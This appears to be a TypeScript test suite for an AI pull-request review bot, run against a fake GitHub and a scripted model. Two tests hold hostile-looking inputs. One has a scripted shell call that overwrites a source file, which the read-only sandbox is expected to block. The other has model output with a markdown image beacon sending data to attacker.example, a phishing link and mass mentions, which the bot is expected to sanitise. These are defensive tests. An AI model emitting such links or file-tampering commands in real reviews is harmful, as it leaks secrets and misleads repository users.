import { pino } from "pino";
import type { RunnerDeps } from "../../src/tasks/runner-deps.js";
import { startFakeGitHub, type FakeGitHub } from "../fakes/fake-github.js";
import { startScriptedModel, type ScriptStep, type ScriptedModel } from "../fakes/fake-openai.js";
import { createRunnerHarness, type Harness } from "../helpers/runner-harness.js";

const BASE = {
  "src/math.js": ["export function add(a, b) {", "  return a + b;", "}", "", "export function div(a, b) {", "  return a / b;", "}", ""].join("\n"),
  "src/util.js": "export const id = (x) => x;\n",
  "docs/guide.md": "# Guide\n",
  "AGENTS.md": "# Project\n\n## Review guidelines\n\n- Division must guard against zero.\n",
};
const FEATURE = {
  "src/math.js": ["export function add(a, b) {", "  return a + b;", "}", "", "export function div(a, b) {", "  const q = a / b;", "  return Math.round(q);", "}", ""].join("\n"),
  "docs/guide.md": "# Guide\n\nDivide things.\n",
};

type JsonFinding = { title: string; body: string; priority: number; confidence: number; path: string; start_line: number; end_line: number; suggestion: string | null };
const answer = (summary: string, findings: JsonFinding[]): ScriptStep => ({ text: JSON.stringify({ summary, findings }) });
const zeroDivision: JsonFinding = { title: "Division by zero is not guarded", body: "`b` may be 0; the result is Infinity, then rounded.", priority: 1, confidence: 0.9, path: "src/math.js", start_line: 6, end_line: 6, suggestion: "  const q = b === 0 ? 0 : a / b;" };

describe("review task runner (real git and sandbox, fake GitHub that validates review lines)", () => {
  let fake: FakeGitHub;
  let model: ScriptedModel;
  let harness: Harness;
  let cloneUrl: string;
  let pullNumber: number;
  let headSha: string;

  async function setUp(script: ScriptStep[], config = "", overrides: Partial<RunnerDeps> = {}) {
    fake = await startFakeGitHub();
    cloneUrl = (await fake.createRepo({ owner: "o", name: "lib", files: { ...BASE, ".github/codex.yml": config || "setup: []\n" } })).cloneUrl;
    headSha = await fake.pushBranch("o", "lib", "feature", FEATURE, "Round the quotient");
    pullNumber = (await fake.openPullRequest("o", "lib", { head: "feature", title: "Round division", body: "Rounds results.", user: "author" })).number;
    model = await startScriptedModel(script, { apiKey: "sk-test" });
    harness = await createRunnerHarness(fake, model, overrides);
  }
  afterEach(async () => {
    await harness.close();
    await model.close();
    await fake.close();
  });

  const review = async (action = "opened") => {
    await harness.enqueueReview("o", "lib", cloneUrl, { number: pullNumber, headSha, action });
    await harness.runNext();
  };
  const lastCheck = () => fake.checkRuns("o", "lib").at(-1)!;

  test("one review: the finding on its exact line with a suggestion, the rest in the body, base-branch guidelines in the prompt", async () => {
    await setUp([
      { toolCalls: [{ name: "shell", arguments: { command: "echo hacked > src/math.js; cat src/math.js | head -1" } }] },
      answer("Rounds division results.", [
        zeroDivision,
        { title: "Rename q", body: "A clearer name helps.", priority: 3, confidence: 0.6, path: "src/math.js", start_line: 6, end_line: 6, suggestion: null },
        { title: "id() has no tests", body: "Nothing covers id().", priority: 1, confidence: 0.8, path: "src/util.js", start_line: 1, end_line: 1, suggestion: null },
      ]),
    ]);
    await review();
    const reviews = fake.reviews("o", "lib", pullNumber);
    expect(reviews).toHaveLength(1);
    expect(reviews[0]).toMatchObject({ event: "COMMENT", user: "codex-bot[bot]", commitId: headSha });
    const comments = fake.reviewComments("o", "lib", pullNumber);
    expect(comments.map((c) => ({ path: c.path, line: c.line, side: c.side, startLine: c.startLine }))).toEqual([{ path: "src/math.js", line: 6, side: "RIGHT", startLine: null }]);
    expect(comments[0]!.body).toContain("Division by zero is not guarded");
    expect(comments[0]!.body).toContain("```suggestion\n  const q = b === 0 ? 0 : a / b;\n```");
    expect(reviews[0]!.body).toMatch(/Also noticed[\s\S]*id\(\) has no tests[\s\S]*src\/util\.js:1/);
    expect(reviews[0]!.body).toMatch(/Rename q/);
    const prompt = JSON.stringify(model.requests[0]!.body);
    expect(prompt).toContain("Division must guard against zero.");
    expect(JSON.stringify(model.requests[1]!.body)).toMatch(/Read-only file system/);
    expect(lastCheck()).toMatchObject({ name: "codex review", headSha, status: "completed", conclusion: "neutral" });
    expect(fake.unhandled).toEqual([]);
  });

  test("GitHub's 422 on a comment position: the review is posted again with the comments in the body", async () => {
    await setUp([answer("ok", [zeroDivision])]);
    fake.failNext("POST", /\/pulls\/\d+\/reviews$/, 422, { message: "Unprocessable Entity", errors: ["Line could not be resolved"] });
    await review();
    const reviews = fake.reviews("o", "lib", pullNumber);
    expect(reviews).toHaveLength(1);
    expect(fake.reviewComments("o", "lib", pullNumber)).toHaveLength(0);
    expect(reviews[0]!.body).toMatch(/could not place[\s\S]*src\/math\.js:6[\s\S]*Division by zero/);
  });

  test("after a push only the new changes are reviewed and nothing already posted is posted again", async () => {
    await setUp([answer("first", [zeroDivision]), answer("second", [zeroDivision])]);
    await review();
    headSha = await fake.pushBranch("o", "lib", "feature", { "src/util.js": "export const id = (x) => x;\nexport const two = 2;\n" }, "More");
    await review("synchronize");
    const second = JSON.stringify(model.requests[1]!.body);
    expect(second).toContain("src/util.js");
    expect(second).not.toContain("Math.round(q)");
    expect(second).toContain("re-review");
    expect(fake.reviews("o", "lib", pullNumber)).toHaveLength(1);
    expect(fake.reviewComments("o", "lib", pullNumber)).toHaveLength(1);
  });

  test("ignore_paths are honoured and listed as not reviewed", async () => {
    await setUp([answer("fine", [])], "setup: []\nreview:\n  ignore_paths: docs/**\n");
    await review();
    expect(JSON.stringify(model.requests[0]!.body)).not.toContain("Divide things");
    const body = fake.reviews("o", "lib", pullNumber)[0]!.body;
    expect(body).toMatch(/docs\/guide\.md/);
    expect(body).toContain("No major issues found");
    expect(fake.reactions("o", "lib").some((r) => r.content === "+1" && r.subjectId === pullNumber)).toBe(true);
    expect(lastCheck().conclusion).toBe("success");
  });

  test("block_on: P1 turns the check into a merge gate until the finding is gone", async () => {
    await setUp([answer("risky", [zeroDivision]), answer("fixed", [])], "setup: []\nreview:\n  block_on: P1\n");
    await review();
    expect(lastCheck()).toMatchObject({ conclusion: "failure" });
    headSha = await fake.pushBranch("o", "lib", "feature", { "src/math.js": BASE["src/math.js"] }, "Revert");
    await review("synchronize");
    expect(lastCheck()).toMatchObject({ headSha, conclusion: "success" });
  });

  test("a PR too large for the budget: several requests, the rest named as not reviewed, never reported complete", async () => {
    const json = (): ScriptStep => answer("fine", []);
    await setUp(Array.from({ length: 4 }, json));
    const big: Record<string, string> = {};
    for (let i = 0; i < 320; i++) big[`gen/file${String(i).padStart(3, "0")}.js`] = Array.from({ length: 40 }, (_, j) => `export const v${j} = "${"x".repeat(20)}";`).join("\n") + "\n";
    headSha = await fake.pushBranch("o", "lib", "feature", big, "Generate a lot");
    await review();
    expect(model.requests).toHaveLength(4);
    const body = fake.reviews("o", "lib", pullNumber)[0]!.body;
    expect(body).toMatch(/This review is partial: \d+ file\(s\) not reviewed/);
    expect(body).toContain("too large for the review budget");
    expect(body).not.toContain("No major issues found.");
    expect(body).toContain("No major issues found in the files that were reviewed");
    expect(lastCheck()).toMatchObject({ conclusion: "neutral", output: expect.objectContaining({ title: "Partial review: no findings in the reviewed files" }) });
    expect(fake.reactions("o", "lib").some((r) => r.content === "+1")).toBe(false);
  }, 60_000);

  test("an unusable answer gets exactly one repair request, then the review is posted", async () => {
    await setUp([{ text: "Looks fine to me overall, nice work!" }, answer("ok", [zeroDivision])]);
    await review();
    expect(model.requests).toHaveLength(2);
    expect(JSON.stringify(model.requests[1]!.body)).toContain("Your answer could not be used");
    expect(fake.reviewComments("o", "lib", pullNumber)).toHaveLength(1);
  });

  test("what the model writes reaches the review sanitised; the bot's priority badges and marker survive", async () => {
    const hostile = "Fixes other/repo#9. ![x](https://attacker.example/?d=c2VjcmV0) See https://evil.example/login.";
    await setUp([answer("Summary for @org/security ![y](https://attacker.example/y.png)", [
      { ...zeroDivision, title: "Division by zero, cc @org/everyone", body: hostile },
      { title: "id() has no tests", body: `Nothing covers id(). ${hostile}`, priority: 1, confidence: 0.8, path: "src/util.js", start_line: 1, end_line: 1, suggestion: null },
    ])]);
    await review();
    const [comment] = fake.reviewComments("o", "lib", pullNumber);
    expect(comment!.body).toContain("**![P1 Badge](https://img.shields.io/badge/P1-orange?style=flat) Division by zero, cc @\u2060org/everyone**");
    expect(comment!.body).toContain("other/repo#9. x See https\u2060://evil.example/login.");
    expect(comment!.body).toContain("```suggestion\n  const q = b === 0 ? 0 : a / b;\n```");
    const body = fake.reviews("o", "lib", pullNumber)[0]!.body;
    expect(body).toContain("Summary for @\u2060org/security y");
    expect(body).toContain("![P1 Badge](https://img.shields.io/badge/P1-orange?style=flat) **id() has no tests**");
    for (const text of [comment!.body, body]) {
      expect(text).not.toContain("attacker.example");
      expect(text).not.toMatch(/fixes other/i);
    }
    expect(body).toMatch(/<!-- codex-review: \{"head":"[0-9a-f]{40}"/);
  });

  test("a check-run update answered with a 5xx is retried: the check still reaches the review's verdict", async () => {
    await setUp([answer("risky", [zeroDivision])], "setup: []\nreview:\n  block_on: P1\n");
    fake.failNext("PATCH", /\/check-runs\/\d+$/, 502);
    await review();
    // Not the "Review failed" a second, neutral update would have made of it.
    expect(lastCheck()).toMatchObject({ status: "completed", conclusion: "failure", output: expect.objectContaining({ title: "1 blocking finding (P1 or higher)" }) });
  });

  test("a check run GitHub never lets the bot complete is logged at warn with the task and the check run", async () => {
    const warnings: Record<string, unknown>[] = [];
    const log = pino({ level: "warn" }, { write: (line: string) => void warnings.push(JSON.parse(line) as Record<string, unknown>) });
    await setUp([answer("risky", [zeroDivision])], "setup: []\nreview:\n  block_on: P1\n", { log });
    for (let i = 0; i < 10; i++) fake.failNext("PATCH", /\/check-runs\/\d+$/, 503);
    const task = await harness.enqueueReview("o", "lib", cloneUrl, { number: pullNumber, headSha });
    await harness.runNext();
    expect(lastCheck().status).toBe("in_progress");
    expect(warnings).toContainEqual(expect.objectContaining({ level: 40, task: task.id, checkRun: lastCheck().id, msg: expect.stringContaining("stays in progress") }));
    // The review itself was still posted.
    expect(fake.reviews("o", "lib", pullNumber)).toHaveLength(1);
  });
});
